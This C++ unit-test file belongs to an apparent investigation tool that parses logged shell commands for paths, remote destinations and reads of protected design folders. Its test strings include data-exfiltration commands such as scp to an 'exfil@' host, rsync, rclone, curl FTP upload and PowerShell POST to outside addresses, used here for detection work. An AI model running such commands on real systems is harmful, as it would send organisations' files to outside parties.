#include "investigate/commands.h"

#include <gtest/gtest.h>

namespace tansa::investigate {
namespace {

using V = std::vector<std::string>;

TEST(Commands, WordsAsAShellSplitsThem) {
  EXPECT_EQ(command_words("tar -czf '/tmp/a b.tgz' \"x y\"  z"),
            (V{"tar", "-czf", "/tmp/a b.tgz", "x y", "z"}));
  EXPECT_EQ(command_words(R"(robocopy \\FS1\Design C:\out /E)"),
            (V{"robocopy", R"(\\FS1\Design)", R"(C:\out)", "/E"}));
  EXPECT_EQ(command_words(""), V{});
}

TEST(Commands, PathsResolvedAgainstTheWorkingDirectory) {
  EXPECT_EQ(command_paths("/bin/tar -czf /tmp/x.tgz designs", "/data"),
            (V{"/tmp/x.tgz", "/data/designs"}));
  EXPECT_EQ(command_paths("sudo -u root rsync -a designs /mnt", "/data"),
            (V{"/data/designs", "/mnt"}));
  EXPECT_EQ(command_paths("tar -czf ../x.tgz ./designs/../designs/", "/data/work"),
            (V{"/data/x.tgz", "/data/work/designs"}));
  EXPECT_EQ(command_paths("rsync -a --files-from=/etc/list src/ backup@203.0.113.5:/drop", "/srv"),
            (V{"/etc/list", "/srv/src"}));
  EXPECT_EQ(command_paths(R"(powershell -c Compress-Archive -Path:D:\Satellite\orbit -DestinationPath C:\t\o.zip)", ""),
            (V{R"(D:\Satellite\orbit)", R"(C:\t\o.zip)"}));
  // Without a logged working directory a relative path stays relative.
  EXPECT_EQ(command_paths("cp designs/a.dwg /tmp", ""), (V{"designs/a.dwg", "/tmp"}));
  // A home folder cannot be resolved; remote specs are not local paths.
  EXPECT_EQ(command_paths("scp ~/x user@host:/y", "/"), V{});
  // Bare words are paths only for programs that read files.
  EXPECT_EQ(command_paths("systemctl restart designs", "/data"), V{});
}

TEST(Commands, Destinations) {
  EXPECT_EQ(command_destinations("rclone copy /data s3://bucket/x --s3-endpoint=https://198.51.100.7:9000/"),
            (V{"bucket", "198.51.100.7"}));
  EXPECT_EQ(command_destinations("scp -r /data/designs exfil@203.0.113.9:/drop"), (V{"203.0.113.9"}));
  EXPECT_EQ(command_destinations("curl -T x.tgz ftp://u:p@[2001:db8::5]/in/"), (V{"2001:db8::5"}));
  EXPECT_EQ(command_destinations("rsync -a src 203.0.113.10:/in"), (V{"203.0.113.10"}));
  EXPECT_EQ(command_destinations("sftp files.example.net"), (V{"files.example.net"}));
  EXPECT_EQ(command_destinations("Invoke-WebRequest -Uri http://203.0.113.4/u -Method Post"),
            (V{"203.0.113.4"}));
  EXPECT_EQ(command_destinations("tar -czf /tmp/x.tgz /data"), V{});
}

TEST(Commands, ReadersAndNonReaders) {
  EXPECT_TRUE(command_reads_files("/usr/bin/tar -czf /tmp/x.tgz /data/designs"));
  EXPECT_TRUE(command_reads_files("sudo -u root rsync -a /data /mnt"));
  EXPECT_TRUE(command_reads_files("cmd.exe /c robocopy \\\\FS1\\D C:\\x"));
  EXPECT_TRUE(command_reads_files("powershell -c Compress-Archive -Path D:\\x -DestinationPath y"));
  EXPECT_TRUE(command_reads_files("7z.exe a out.7z D:\\Satellite"));
  EXPECT_FALSE(command_reads_files("ls -la /data/designs"));
  EXPECT_FALSE(command_reads_files("/bin/bash"));
  EXPECT_FALSE(command_reads_files("systemctl restart tar"));
}

TEST(Commands, PathReadsTheAssetOrAFolderAboveIt) {
  EXPECT_TRUE(path_reads("/data/designs/**", "/data/designs/rocket/a.dwg"));
  EXPECT_TRUE(path_reads("/data/designs/**", "/data/designs"));
  EXPECT_TRUE(path_reads("/data/designs/**", "/data/designs/"));
  EXPECT_TRUE(path_reads("/data/designs/**", "/data"));
  EXPECT_TRUE(path_reads("/data/designs/**", "/"));
  EXPECT_TRUE(path_reads(R"(SatelliteDesign\**)", R"(satellitedesign)"));
  EXPECT_TRUE(path_reads("/data/designs/*.dwg", "/data/designs"));
  EXPECT_FALSE(path_reads("/data/designs/**", "/data/designs-old"));
  EXPECT_FALSE(path_reads("/data/designs/**", "/data/other"));
  EXPECT_FALSE(path_reads("/data/designs/**", "/tmp"));
  EXPECT_FALSE(path_reads("/data/designs/**", ""));
}

}  // namespace
}  // namespace tansa::investigate
